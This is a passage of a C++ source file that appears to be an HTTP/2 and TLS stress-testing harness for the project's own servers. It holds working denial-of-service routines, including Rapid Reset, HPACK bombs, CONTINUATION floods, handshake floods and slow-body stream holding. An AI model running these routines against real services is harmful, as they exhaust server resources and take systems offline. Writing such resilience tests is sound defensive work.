    // its connection closed, which would end the attack rather than test the bound.
    const uint32_t allowed = std::min(o.streams_per_connection, c->peer().max_concurrent_streams);
    if (allowed < o.streams_per_connection) {
      r.Note(absl::StrCat("the server allows ", allowed, " streams per connection"));
    }
    for (uint32_t s = 0; s < allowed && c->open(); ++s) {
      const uint32_t id = c->NextStream();
      if (absl::Status st = c->Headers(id, block, false); !st.ok()) {
        r.Note(absl::StrCat("HEADERS: ", st.message()));
        break;
      }
      ++r.streams;
      absl::StatusOr<size_t> n = c->DataNow(id, prefix, false);
      if (!n.ok() || *n < prefix.size()) {
        r.Note("the server's window did not take a length prefix");
        continue;
      }
      r.data_bytes += *n;
      streams.push_back({c.get(), id, o.message_bytes > 0 ? o.message_bytes - 1 : 0});
    }
    conns.push_back(std::move(c));
  }
  // Feed the bodies as the windows open, all streams in turn.
  uint64_t full = 0;
  while (!run.Over()) {
    bool progress = false, pending = false;
    for (Half& h : streams) {
      if (h.left == 0 || !h.c->open() || h.c->stream_reset(h.id)) continue;
      absl::StatusOr<size_t> n =
          h.c->DataNow(h.id, std::string_view(Zeros()).substr(0, std::min<uint64_t>(h.left, Zeros().size())), false);
      if (!n.ok()) {
        r.Note(absl::StrCat("DATA: ", n.status().message()));
        continue;
      }
      h.left -= *n;
      r.data_bytes += *n;
      progress |= *n > 0;
      if (h.left == 0) ++full;
      pending |= h.left > 0;
    }
    if (!pending) break;
    if (!progress) {
      for (auto& c : conns) {
        if (c->open()) (void)c->Poll(milliseconds(50 / std::max<size_t>(conns.size(), 1)));
      }
    }
  }
  r.Note(absl::StrCat(full, " of ", streams.size(), " streams sent all but their last byte"));
  HoldAndRetire(r, run, conns);  // never sending the last bytes
  r.seconds = run.Seconds();
  return r;
}

Report BareConnections(const BareConnectionOptions& o) {
  Report r;
  const Run run(o.control);
  RaiseOpenFileLimit();
  if (absl::Status s = CheckLoopback(o.target); !s.ok()) {
    r.Note(std::string(s.message()));
    return r;
  }
  std::vector<int> held;
  while (held.size() < o.count && !run.Over()) {
    std::vector<int> batch;
    const size_t want = std::min<size_t>(o.batch, o.count - held.size());
    for (size_t i = 0; i < want; ++i) {
      absl::StatusOr<int> fd = StartConnect(o.target);
      if (!fd.ok()) {
        ++r.connect_failures;
        r.Note(std::string(fd.status().message()));
        break;
      }
      batch.push_back(*fd);
    }
    if (batch.empty()) break;  // out of descriptors here
    const auto until = Clock::now() + o.connect_timeout;
    std::vector<int> waiting = batch;
    while (!waiting.empty() && Clock::now() < until) {
      std::vector<pollfd> ps;
      for (int fd : waiting) ps.push_back({fd, POLLOUT, 0});
      const auto left = std::chrono::duration_cast<milliseconds>(until - Clock::now());
      if (::poll(ps.data(), ps.size(), static_cast<int>(std::max<int64_t>(left.count(), 0))) <= 0) break;
      std::vector<int> still;
      for (const pollfd& p : ps) {
        if (p.revents == 0) {
          still.push_back(p.fd);
          continue;
        }
        int err = 0;
        socklen_t len = sizeof(err);
        ::getsockopt(p.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err == 0) {
          held.push_back(p.fd);
          ++r.connections;
        } else {
          ++r.connect_failures;
          r.Note(absl::StrCat("connect: ", std::strerror(err)));
          ::close(p.fd);
        }
      }
      waiting = std::move(still);
    }
    for (int fd : waiting) {
      ++r.connect_failures;
      r.Note("connect timed out (the server's backlog is full)");
      ::close(fd);
    }
  }
  r.Note(absl::StrCat(held.size(), " connections held"));
  while (!run.Over()) std::this_thread::sleep_for(milliseconds(20));
  for (int fd : held) ::close(fd);
  r.seconds = run.Seconds();
  return r;
}

Report TlsHandshakeFlood(const TlsFloodOptions& o) {
  Report r;
  const Run run(o.control);
  Target plain = o.target;
  plain.tls = false;
  absl::StatusOr<SSL_CTX*> ctx = ClientContext(o.target);
  if (!ctx.ok()) {
    r.Note(std::string(ctx.status().message()));
    return r;
  }
  uint64_t garbage_seed = 0x9e3779b97f4a7c15ull;
  for (uint32_t i = 0; i < o.max_connections && !run.Over(); ++i) {
    run.Pace(i, o.per_second);
    absl::StatusOr<int> fd = ConnectTcp(plain, milliseconds(1000));
    if (!fd.ok()) {
      ++r.connect_failures;
      r.Note(std::string(fd.status().message()));
      continue;
    }
    ++r.connections;
    if (o.mode == TlsFloodMode::kGarbage) {
      std::string garbage(512, '\0');
      for (char& ch : garbage) {
        garbage_seed = garbage_seed * 6364136223846793005ull + 1442695040888963407ull;
        ch = static_cast<char>(garbage_seed >> 56);
      }
      garbage[0] = 'G';  // never a TLS record type
      const ssize_t n = ::send(*fd, garbage.data(), garbage.size(), MSG_NOSIGNAL);
      if (n > 0) r.bytes += static_cast<uint64_t>(n);
    } else {
      SSL* ssl = SSL_new(*ctx);
      SSL_set_fd(ssl, *fd);
      if (o.mode == TlsFloodMode::kClientHello) {
        ERR_clear_error();
        (void)SSL_connect(ssl);  // sends the ClientHello, then wants to read
        r.bytes += BIO_number_written(SSL_get_wbio(ssl));
      } else {
        absl::Status s = DriveHandshake(ssl, *fd, milliseconds(2000));
        r.bytes += BIO_number_written(SSL_get_wbio(ssl));
        if (!s.ok()) {
          r.Note(std::string(s.message()));
        } else {
          // TLS 1.3: the server judges the (absent) certificate after the client's
          // Finished; read its verdict briefly.
          char buf[256];
          pollfd p{*fd, POLLIN, 0};
          if (::poll(&p, 1, 20) > 0) {
            ERR_clear_error();
            if (SSL_read(ssl, buf, sizeof(buf)) <= 0) r.Note(absl::StrCat("after the handshake: ", OpensslError()));
          }
        }
      }
      SSL_free(ssl);
    }
    ::close(*fd);
  }
  SSL_CTX_free(*ctx);
  r.seconds = run.Seconds();
  return r;
}

Report Flood(const FloodOptions& o) {
  Report r;
  const Run run(o.control);
  const std::string block = RequestHeaderBlock(o.request);
  std::string rst;
  PutU32(&rst, static_cast<uint32_t>(ErrorCode::kCancel));
  uint32_t n = 0;  // connections so far
  const auto more = [&] { return r.frames < o.max_frames; };
  Serially(r, run, o.target, o.max_connections, o.read_replies, more, [&](Connection& c) {
    ++n;
    uint64_t ping = 0;
    while (c.open() && more() && !run.Over()) {
      std::string batch;
      uint32_t frames = 0;
      for (uint32_t k = 0; k < o.frames_per_write; ++k) {
        switch (o.kind) {
          case FloodKind::kSettings: {
            std::string payload;
            payload.push_back('\0');
            payload.push_back(static_cast<char>(kEnablePush));
            PutU32(&payload, 0);
            batch += EncodeFrame(FrameType::kSettings, 0, 0, payload);
            ++frames;
            break;
          }
          case FloodKind::kPing: {
            std::string payload;
            PutU32(&payload, n);
            PutU32(&payload, static_cast<uint32_t>(++ping));
            batch += EncodeFrame(FrameType::kPing, 0, 0, payload);
            ++frames;
            break;
          }
          case FloodKind::kRapidReset: {
            const uint32_t id = c.NextStream();
            if (id == 0) break;
            batch += EncodeFrame(FrameType::kHeaders, kEndHeaders, id, block);
            batch += EncodeFrame(FrameType::kRstStream, 0, id, rst);
            frames += 2;
            ++r.streams;
            break;
          }
          case FloodKind::kWindowUpdate: {
            std::string payload;
            PutU32(&payload, 1);
            batch += EncodeFrame(FrameType::kWindowUpdate, 0, 0, payload);
            ++frames;
            break;
          }
        }
      }
      if (frames == 0) return;  // stream ids spent
      if (absl::Status s = c.Write(batch); !s.ok()) {
        r.Note(absl::StrCat("write: ", s.message()));
        return;
      }
      r.frames += frames;
      if (o.read_replies) (void)c.Poll(milliseconds(0));
      run.Pace(r.frames, o.frames_per_second);
    }
  });
  r.seconds = run.Seconds();
  return r;
}

Report HpackBomb(const HpackOptions& o) {
  Report r;
  const Run run(o.control);
  const std::string request = RequestHeaderBlock(o.request);
  std::string body;  // what follows the request's own headers in every block
  switch (o.kind) {
    case HpackKind::kManyLargeHeaders:
      for (uint32_t h = 0; h < o.headers; ++h) {
        body += HpackLiteral(absl::StrCat("x-pad-", h), std::string(o.header_bytes, 'a'));
      }
      break;
    case HpackKind::kIndexedReferences:
      for (uint32_t i = 0; i < o.references; ++i) body += HpackIndexed(kFirstDynamicIndex);
      break;
    case HpackKind::kOversizedHeader:
      body = HpackLiteral("x-big", std::string(o.header_bytes, 'b'));
      break;
  }
  uint64_t sent = 0;
  const auto more = [&] { return r.streams < o.max_streams && sent < o.max_bytes; };
  Serially(r, run, o.target, o.max_connections, true, more, [&](Connection& c) {
    bool first = true;
    while (c.open() && more() && !run.Over()) {
      const uint32_t id = c.NextStream();
      if (id == 0) return;
      std::string block = request;
      if (o.kind == HpackKind::kIndexedReferences && first) {
        // The one entry the references name: as large as the server's table holds.
        const size_t room = c.peer().header_table_size > kHpackEntryOverhead + 6
                                ? c.peer().header_table_size - kHpackEntryOverhead - 6
                                : 0;
        block += HpackLiteral("x-bomb", std::string(std::min<size_t>(o.header_bytes, room), 'x'),
                              Indexing::kIncremental);
        first = false;
      }
      block += body;
      if (absl::Status s = c.Headers(id, block, /*end_stream=*/true); !s.ok()) {
        r.Note(absl::StrCat("HEADERS: ", s.message()));
        return;
      }
      ++r.streams;
      sent += block.size();
      (void)c.Poll(milliseconds(0));
    }
  });
  r.seconds = run.Seconds();
  return r;
}

Report ContinuationFlood(const ContinuationOptions& o) {
  Report r;
  const Run run(o.control);
  const std::string block = RequestHeaderBlock(o.request);
  uint64_t k = 0;  // headers so far
  Serially(r, run, o.target, o.max_connections, true, [] { return true; }, [&](Connection& c) {
    const uint32_t id = c.NextStream();
    if (absl::Status s = c.Headers(id, block, /*end_stream=*/false, /*end_headers=*/false);
        !s.ok()) {
      r.Note(absl::StrCat("HEADERS: ", s.message()));
      return;
    }
    ++r.streams;
    const size_t frame = std::min<size_t>(o.frame_bytes, c.peer().max_frame_size);
    uint64_t sent = 0;
    while (c.open() && sent < o.max_bytes && !run.Over()) {
      std::string batch;
      for (int i = 0; i < 16; ++i, ++k) {
        std::string payload;
        if (!o.empty_frames) {
          const std::string name = absl::StrCat("x-c", k);
          // A literal of name and value that fills the frame (two length bytes each,
          // three for values over 126 bytes).
          const size_t overhead = 1 + 1 + name.size() + 4;
          payload = HpackLiteral(name, std::string(frame > overhead ? frame - overhead : 1, 'c'));
        }
        batch += EncodeFrame(FrameType::kContinuation, 0, id, payload);
        sent += payload.size();
      }
      if (absl::Status s = c.Write(batch); !s.ok()) {
        r.Note(absl::StrCat("CONTINUATION: ", s.message()));
        return;
      }
      r.frames += 16;
      (void)c.Poll(milliseconds(0));
    }
  });
  r.seconds = run.Seconds();
  return r;
}

Report HealthWatches(const HealthWatchOptions& o) {
  Report r;
  const Run run(o.control);
  Request req{.path = std::string(kHealthWatchPath), .authorization = o.authorization};
  const std::string block = RequestHeaderBlock(req);
  const std::string message = GrpcMessage(HealthCheckRequestBytes(o.service));
  std::vector<std::unique_ptr<Connection>> conns;
  for (uint32_t i = 0; i < o.connections && !run.Over(); ++i) {
    std::unique_ptr<Connection> c = Dial(r, run, o.target);
    if (c == nullptr) continue;
    for (uint32_t s = 0; s < o.streams_per_connection && c->open() && !run.Over(); ++s) {
      const uint32_t id = c->NextStream();
      std::string frames = EncodeFrame(FrameType::kHeaders, kEndHeaders, id, block);
      frames += EncodeFrame(FrameType::kData, kEndStream, id, message);
      if (absl::Status st = c->Write(frames); !st.ok()) {
        r.Note(absl::StrCat("Watch: ", st.message()));
        break;
      }
      ++r.streams;
      r.frames += 2;
      r.data_bytes += message.size();
    }
    conns.push_back(std::move(c));
  }
  HoldAndRetire(r, run, conns);
  r.seconds = run.Seconds();
  return r;
}

Report HealthCheckBodies(const HealthCheckBodyOptions& o) {
  Report r;
  const Run run(o.control);
  Request req{.path = std::string(kHealthCheckPath), .authorization = o.authorization};
  const std::string block = RequestHeaderBlock(req);
  const size_t name_bytes = o.body_bytes > 8 ? o.body_bytes - 8 : 1;
  const std::string message = GrpcMessage(HealthCheckRequestBytes(std::string(name_bytes, 's')));
  struct Caller {
    std::unique_ptr<Connection> c;
    uint32_t id = 0;
    size_t sent = 0;
    uint64_t finished_before = 0;  // the connection's answered + reset streams at the start
  };
  const auto finished = [](const Connection& c) {
    uint64_t n = c.observed().streams_ended;
    for (const auto& [code, k] : c.observed().rst_codes) n += k;
    return n;
  };
  std::vector<Caller> callers(o.concurrent);
  uint64_t calls = 0, reconnects = 0;
  while (!run.Over()) {
    bool progress = false, busy = false;
    for (Caller& k : callers) {
      if (k.c != nullptr && !k.c->open()) Retire(r, k.c);
      if (k.c == nullptr) {
        if (calls >= o.max_calls || reconnects >= o.max_calls) continue;
        ++reconnects;
        k.c = Dial(r, run, o.target);
        k.id = 0;
        if (k.c == nullptr) continue;
      }
      if (k.id != 0 && finished(*k.c) > k.finished_before) {
        k.c->ForgetStream(k.id);
        k.id = 0;
      }
      if (k.id == 0) {
        if (calls >= o.max_calls) continue;
        k.id = k.c->NextStream();
        k.sent = 0;
        k.finished_before = finished(*k.c);
        if (!k.c->Headers(k.id, block, false).ok()) continue;
        ++calls;
        ++r.streams;
      }
      busy = true;
      if (k.sent < message.size()) {
        absl::StatusOr<size_t> n =
            k.c->DataNow(k.id, std::string_view(message).substr(k.sent), /*end_stream=*/true);
        if (n.ok()) {
          k.sent += *n;
          r.data_bytes += *n;
          progress |= *n > 0;
        }
      }
    }
    if (!busy) break;
    if (!progress) {
      for (Caller& k : callers) {
        if (k.c != nullptr && k.c->open()) (void)k.c->Poll(milliseconds(5));
      }
    }
  }
  for (Caller& k : callers) Retire(r, k.c);
  r.seconds = run.Seconds();
  return r;
}

}  // namespace ps::testing::h2
